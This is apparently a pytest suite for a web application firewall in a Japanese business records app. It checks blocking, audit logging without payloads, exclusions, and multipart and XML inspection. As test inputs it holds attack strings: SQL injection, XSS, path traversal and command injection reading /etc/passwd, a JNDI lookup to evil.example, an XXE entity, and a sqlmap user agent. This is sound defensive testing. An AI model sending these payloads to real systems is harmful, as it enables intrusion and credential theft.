"""The WAF in the app: 403 waf_blocked, audit, counters, bodies, exclusions, multipart."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from fastapi import FastAPI, Request
from fastapi.testclient import TestClient
from sqlalchemy import select

from hokan.app import create_app
from hokan.audit.service import SYSTEM_CHAIN
from hokan.edge.waf import waf_exclude
from hokan.models import AuditEvent
from hokan.runtime import Runtime
from hokan.settings import Settings
from tests.conftest import TenantHandle

BASE = "/api/v1/collections/staff/records"
ATTACK = "' OR '1'='1' --"


def build_app(runtime: Runtime) -> FastAPI:
    app = create_app(runtime=runtime)

    @app.post("/test/echo")
    async def echo(request: Request) -> dict[str, int]:
        size = 0
        async for chunk in request.stream():
            size += len(chunk)
        return {"bytes": size}

    @app.post("/test/template")
    @waf_exclude("ssti", fields=["json.body"], reason="mail templates hold {{ placeholders }}")
    async def template(request: Request) -> dict[str, int]:
        return {"bytes": len(await request.body())}

    return app


@pytest.fixture
def make_client(
    settings_factory: Callable[..., Settings],
) -> Iterator[Callable[..., tuple[TestClient, Runtime]]]:
    made: list[tuple[TestClient, Runtime]] = []

    def make(**overrides: object) -> tuple[TestClient, Runtime]:
        rt = Runtime(settings_factory(**overrides))
        rt.keyring.verify_master(initialise=True)
        # A loopback peer: the admission layer (EDGE-2) refuses TestClient's "testclient" host.
        c = TestClient(build_app(rt), client=("127.0.0.1", 50000))
        c.__enter__()
        made.append((c, rt))
        return c, rt

    yield make
    for c, rt in made:
        c.__exit__(None, None, None)
        rt.close()


@pytest.fixture
def waf_client(
    make_client: Callable[..., tuple[TestClient, Runtime]],
) -> tuple[TestClient, Runtime]:
    return make_client()


def waf_events(rt: Runtime) -> list[AuditEvent]:
    with rt.db.session(system=True) as s:
        return list(
            s.scalars(
                select(AuditEvent)
                .where(AuditEvent.chain == SYSTEM_CHAIN, AuditEvent.action.startswith("waf."))
                .order_by(AuditEvent.seq)
            )
        )


def test_attack_in_query_is_refused_in_japanese_and_english(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, rt = waf_client
    r = client.get("/healthz", params={"q": ATTACK})
    assert r.status_code == 403
    body = r.json()
    assert body["error"] == "waf_blocked"
    assert "拒否" in body["detail"]
    assert any(rule.startswith("sqli-") for rule in body["rules"])
    r = client.get("/healthz", params={"q": ATTACK}, headers={"Accept-Language": "en-US,en"})
    assert r.status_code == 403
    assert "firewall" in r.json()["detail"]
    assert rt.waf.counters.blocked == 2
    assert rt.waf.counters.rules[body["rules"][0]] == 2


def test_block_is_audited_once_per_minute_without_the_payload(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, rt = waf_client
    for _ in range(5):
        assert client.get("/healthz", params={"search": ATTACK}).status_code == 403
    events = waf_events(rt)
    assert len(events) == 1  # the flood does not flood the trail
    event = events[0]
    assert event.action == "waf.blocked"
    assert event.result == "denied"
    assert event.target_type == "route" and event.target_id == "/healthz"
    assert event.detail["fields"] == ["query.search"]
    assert event.detail["score"] >= 5
    assert "1'='1" not in str(event.detail) and "OR" not in str(event.detail)
    assert rt.waf.counters.audit_suppressed == 4
    # Another rule from the same address is news: audited, with the count held back.
    assert client.get("/healthz", params={"p": "../../../etc/passwd"}).status_code == 403
    events = waf_events(rt)
    assert len(events) == 2
    assert events[1].detail["suppressed_since_last"] == 4


def test_business_data_passes_and_json_attacks_are_refused(
    waf_client: tuple[TestClient, Runtime], make_tenant: Callable[..., TenantHandle]
) -> None:
    client, rt = waf_client
    # make_tenant uses the default runtime fixture's database; use this runtime's own.
    from hokan.identity import tokens
    from hokan.models import Product
    from hokan.principals.principal import ALL_TOKEN_SCOPES, SYSTEM
    from hokan.tenants.schemas import TenantCreate

    with rt.db.session(write=True, system=True) as s:
        tenant = rt.tenants.create(
            s, TenantCreate(code="waf-t", name="ワフ株式会社", product=Product.staff), SYSTEM
        )
        issued = tokens.issue(s, tenant.id, "tests", scopes=ALL_TOKEN_SCOPES, days=30, actor=SYSTEM)
    headers = {"Authorization": f"Bearer {issued.secret}"}
    record = {
        "name": "オライリー（O'Reilly）",
        "address": "東京都千代田区丸の内1丁目2番3号",
        "note": "select the best option from the list; 1=1 の確認 <注意> rm 室",
    }
    r = client.put(f"{BASE}/s-1", json=record, headers=headers)
    assert r.status_code == 201, r.text
    r = client.put(
        f"{BASE}/s-2", json={"profile": {"bio": ["<script>alert(1)</script>"]}}, headers=headers
    )
    assert r.status_code == 403
    assert "xss-script-tag" in r.json()["rules"]
    r = client.get(f"{BASE}/s-2", headers=headers)
    assert r.status_code == 404  # the refused write never reached the records service


def test_detect_only_mode_lets_requests_through_and_audits(
    make_client: Callable[..., tuple[TestClient, Runtime]],
) -> None:
    client, rt = make_client(waf_mode="detect")
    assert client.get("/healthz", params={"q": ATTACK}).status_code == 200
    assert rt.waf.counters.detected == 1 and rt.waf.counters.blocked == 0
    assert [e.action for e in waf_events(rt)] == ["waf.detected"]


def test_disabled_waf_inspects_nothing(
    make_client: Callable[..., tuple[TestClient, Runtime]],
) -> None:
    client, rt = make_client(waf_enabled=False)
    assert client.get("/healthz", params={"q": ATTACK}).status_code == 200
    assert rt.waf.counters.inspected == 0


def test_threshold_and_paranoia_settings(
    make_client: Callable[..., tuple[TestClient, Runtime]],
) -> None:
    lenient, _ = make_client(waf_threshold=50)
    assert lenient.get("/healthz", params={"q": ATTACK}).status_code == 200
    strict, _ = make_client(waf_paranoia=4)
    assert strict.get("/healthz", params={"q": "<b>太字</b>"}).status_code == 403


def test_exclusion_is_per_route_and_per_field(waf_client: tuple[TestClient, Runtime]) -> None:
    client, _ = waf_client
    template = {"body": "{{7*7}} 様、いつもありがとうございます"}
    assert client.post("/test/template", json=template).status_code == 200
    # Another field of the same route, or another route: still inspected.
    assert client.post("/test/template", json={"subject": "{{7*7}}"}).status_code == 403
    assert client.post("/test/echo", json=template).status_code == 403
    # Only the named family is excluded.
    assert (
        client.post("/test/template", json={"body": "<script>alert(1)</script>"}).status_code == 403
    )


def test_body_is_replayed_and_large_bodies_pass_uninspected(
    make_client: Callable[..., tuple[TestClient, Runtime]],
) -> None:
    client, rt = make_client(waf_max_body_bytes=1024)
    small = b'{"note": "' + "あ".encode() * 100 + b'"}'
    r = client.post("/test/echo", content=small, headers={"Content-Type": "application/json"})
    assert r.json() == {"bytes": len(small)}
    big = b'{"note": "' + b"x" * 5000 + b"<script>alert(1)</script>" + b'"}'
    r = client.post("/test/echo", content=big, headers={"Content-Type": "application/json"})
    assert r.status_code == 200 and r.json() == {"bytes": len(big)}
    assert rt.waf.counters.uninspected_bodies == 1


def test_form_and_cookie_and_header_values_are_inspected(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    form = {"comment": "; cat /etc/passwd"}
    assert client.post("/test/echo", data=form).status_code == 403
    assert client.post("/test/echo", data={"comment": "営業部 & 開発部; rm 室"}).status_code == 200
    client.cookies.set("pref", "<svg/onload=alert(1)>")
    assert client.get("/healthz").status_code == 403
    client.cookies.clear()
    ua = {"User-Agent": "${jndi:ldap://evil.example/a}"}
    assert client.get("/healthz", headers=ua).status_code == 403
    assert (
        client.get("/healthz", headers={"X-Api-Version": "${jndi:ldap://x/a}"}).status_code == 403
    )


def _multipart(
    parts: list[tuple[str, str | None, bytes]], boundary: str = "hokanBOUNDARY"
) -> bytes:
    out = b""
    for name, filename, content in parts:
        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        out += f"--{boundary}\r\nContent-Disposition: {disposition}\r\n".encode()
        if filename:
            out += b"Content-Type: application/octet-stream\r\n"
        out += b"\r\n" + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


MP = {"Content-Type": "multipart/form-data; boundary=hokanBOUNDARY"}


def test_multipart_names_are_inspected_and_file_content_is_not(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    # File content is the malware scanner's: markup inside a document is no attack on us.
    body = _multipart(
        [
            ("title", None, "報告書".encode()),
            ("file", "report.html", b"<script>alert(1)</script>" * 10),
        ]
    )
    r = client.post("/test/echo", content=body, headers=MP)
    assert r.status_code == 200 and r.json() == {"bytes": len(body)}
    body = _multipart([("file", "../../../etc/passwd", b"data")])
    r = client.post("/test/echo", content=body, headers=MP)
    assert r.status_code == 403 and "lfi-traversal" in r.json()["rules"]
    body = _multipart([("note", None, b"1' UNION SELECT password FROM users--")])
    assert client.post("/test/echo", content=body, headers=MP).status_code == 403


def test_large_upload_streams_and_a_late_bad_part_is_still_refused(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    blob = bytes(range(256)) * 4096  # 1 MiB of file content, well past the read-ahead
    body = _multipart([("file", "scan.pdf", blob), ("note", None, "確認済み".encode())])
    r = client.post("/test/echo", content=body, headers=MP)
    assert r.status_code == 200 and r.json() == {"bytes": len(body)}
    body = _multipart([("file", "scan.pdf", blob), ("note", None, b"<script>alert(1)</script>")])
    r = client.post("/test/echo", content=body, headers=MP)
    assert r.status_code == 403 and "xss-script-tag" in r.json()["rules"]


def test_xml_bodies_go_through_defusedxml(waf_client: tuple[TestClient, Runtime]) -> None:
    client, _ = waf_client
    xml = {"Content-Type": "application/xml"}
    ok = "<?xml version='1.0'?><staff><name>山田 太郎</name></staff>".encode()
    assert client.post("/test/echo", content=ok, headers=xml).status_code == 200
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    r = client.post("/test/echo", content=xxe, headers=xml)
    assert r.status_code == 403 and r.json()["rules"] == ["xml-doctype"]
    inner = b"<x><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></x>"
    assert client.post("/test/echo", content=inner, headers=xml).status_code == 403


def test_bad_method_is_refused(waf_client: tuple[TestClient, Runtime]) -> None:
    client, _ = waf_client
    r = client.request("TRACE", "/healthz")
    assert r.status_code == 403 and r.json()["rules"] == ["protocol-method"]


def test_a_payload_in_a_parameter_name_is_not_written_to_the_audit(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, rt = waf_client
    r = client.get("/healthz?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1")
    assert r.status_code == 403
    (event,) = waf_events(rt)
    assert event.detail["fields"] == ["query.?#name"]
    assert "alert" not in str(event.detail) and "<" not in str(event.detail)


def test_a_body_without_content_type_is_still_inspected(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    body = b'{"note": "<script>alert(1)</script>"}'
    assert client.post("/test/echo", content=body).status_code == 403
    assert (
        client.post(
            "/test/echo", content=b"; cat /etc/passwd", headers={"Content-Type": "text/plain"}
        ).status_code
        == 403
    )
    assert (
        client.post(
            "/test/echo", content="報告書です".encode(), headers={"Content-Type": "text/plain"}
        ).status_code
        == 200
    )


def test_attack_tools_that_name_themselves_are_refused(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    r = client.get("/healthz", headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"})
    assert r.status_code == 403 and r.json()["rules"] == ["protocol-scanner"]


def test_custom_headers_get_every_rule_and_standard_ones_keep_their_syntax(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    assert (
        client.get("/healthz", headers={"X-Customer-Note": "<script>alert(1)</script>"}).status_code
        == 403
    )
    browser = {
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language": "ja,en-US;q=0.9,en;q=0.8",
        "Cache-Control": "max-age=0",
        "If-None-Match": 'W/"3"',
        "Sec-Fetch-Site": "same-origin",
        "X-Requested-With": "XMLHttpRequest",
    }
    assert client.get("/healthz", headers=browser).status_code == 200


def test_passwords_are_excluded_on_the_login_route_only(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    odd = "P@ss' OR '1'='1' --<script>"  # a strong password that looks like an attack
    r = client.post("/api/v1/auth/login", json={"serial": "4111111111111111", "password": odd})
    assert r.status_code == 401  # judged by the login, not refused by the WAF
    r = client.post("/api/v1/auth/login", json={"serial": "' OR '1'='1' --", "password": "x"})
    assert r.status_code == 403
    assert client.post("/test/echo", json={"password": odd}).status_code == 403


def test_a_binary_body_without_content_type_is_left_to_the_scanner(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    client, _ = waf_client
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8
    assert client.post("/test/echo", content=png).status_code == 200


def test_a_json_body_the_waf_cannot_walk_whole_is_refused(
    waf_client: tuple[TestClient, Runtime],
) -> None:
    """No evasion by bounds: a payload past the walk's depth or count is not let through."""
    client, _ = waf_client
    deep: object = {"v": ATTACK}
    for _ in range(40):
        deep = {"x": deep}
    r = client.post("/test/echo", json=deep)
    assert r.status_code == 403 and "protocol-json-uninspectable" in r.json()["rules"]
    # Many ordinary values, the payload last: every value is walked (the body is capped).
    padded = {"rows": ["山田 太郎"] * 8_000 + [ATTACK]}
    r = client.post("/test/echo", json=padded)
    assert r.status_code == 403 and any(rule.startswith("sqli") for rule in r.json()["rules"])
    shifts = {"shifts": [{"guard": "佐藤", "site": "丸の内", "day": d} for d in range(3_000)]}
    assert client.post("/test/echo", json=shifts).status_code == 200  # big but ordinary
